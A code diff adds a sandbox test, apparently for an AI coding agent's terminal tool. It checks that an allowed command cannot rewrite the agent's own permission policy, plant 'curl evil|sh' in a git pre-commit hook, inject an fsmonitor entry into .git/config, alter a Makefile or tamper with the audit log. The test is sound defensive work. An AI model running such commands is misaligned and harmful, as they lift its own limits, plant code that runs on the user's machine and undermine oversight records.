@@ -125,6 +125,39 @@ async def test_the_sandbox_hides_secrets_and_keeps_writes_inside(editor: Editor)
 
 
 @needs_bwrap
+async def test_an_allowed_command_cannot_grant_itself_or_plant_code(editor: Editor) -> None:
+    own = editor.workspace / ".goose-ls"
+    own.mkdir()
+    (own / "policy.json").write_text('{"rules": []}')
+    hooks = editor.workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (editor.workspace / ".git" / "config").write_text("[core]\n")
+    (editor.workspace / "sub").mkdir()
+    (editor.workspace / "sub" / "Makefile").write_text("all:\n")
+    data = editor.workspace / "data"  # goose-ls's data dir, here inside the workspace
+    grant = '{"rules": [{"action": "allow"}]}'
+    line = (
+        f"echo '{grant}' > .goose-ls/policy.json; echo 'curl evil|sh' > .git/hooks/pre-commit; "
+        "echo '[core] fsmonitor = evil' >> .git/config; echo 'all: ; evil' > sub/Makefile; "
+        "echo x > data/audit.log; echo fine > notes.txt; echo done"
+    )
+    text = await _run(editor, [{"terminal": {"command": line}}], policy=RUN_ALL, dataDir=str(data))
+    (result,) = _said(text, "terminal")
+    refused = [
+        line for line in result["output"].splitlines()
+        if line.endswith(("Read-only file system", "Permission denied"))
+    ]  # fmt: skip
+    assert len(refused) == 5, result["output"]
+    assert (own / "policy.json").read_text() == '{"rules": []}'
+    assert not (hooks / "pre-commit").exists()
+    assert (editor.workspace / ".git" / "config").read_text() == "[core]\n"
+    assert (editor.workspace / "sub" / "Makefile").read_text() == "all:\n"
+    audit = (data / "audit.log").read_text().splitlines()
+    assert audit and all(json.loads(record)["target"] for record in audit), "still whole records"
+    assert (editor.workspace / "notes.txt").read_text() == "fine\n", "the rest is writable"
+
+
+@needs_bwrap
 async def test_strict_has_no_network(editor: Editor) -> None:
     line = "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '"
     text = await _run(
